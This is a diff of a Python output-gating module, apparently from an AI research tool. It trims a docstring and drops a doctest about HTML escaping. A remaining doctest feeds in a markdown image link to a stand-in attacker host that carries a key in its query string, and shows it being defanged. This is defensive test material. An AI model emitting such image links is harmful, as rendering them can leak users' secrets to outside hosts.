@@ -51,8 +51,6 @@ def gated(text: str, sources: Sequence[str] = ()) -> str:
 
     >>> gated("See ![x](https://evil.example/p.png?d=KEY).")
     'See ![x] (https[:]//evil[.]example/p.png?d=KEY).'
-    >>> gated("See <b>https://a.example</b>.", ["It is at https://a.example/."])
-    'See &lt;b>https://a.example&lt;/b>.'
     """
     text = seen(text)
     text = _broken(_ADDRESS, text, _defanged, sources)
@@ -100,11 +98,7 @@ def gated_result(result: ResearchResult) -> ResearchResult:
 
 
 def gated_event(event: events.Event, evidence: Sequence[Evidence]) -> events.Event:
-    """Return an event as it may be shown (`output_gate`): a sentence as its cited chunks allow.
-
-    A draft that is not checked yet is held against all of the evidence, queries and notes against
-    none; a result is gated where it is made.
-    """
+    """Return an event as it may be shown: a sentence by its cited chunks, a draft by all."""
     cited: Sequence[Evidence] = ()
     if isinstance(event, events.DraftWritten):
         cited = evidence
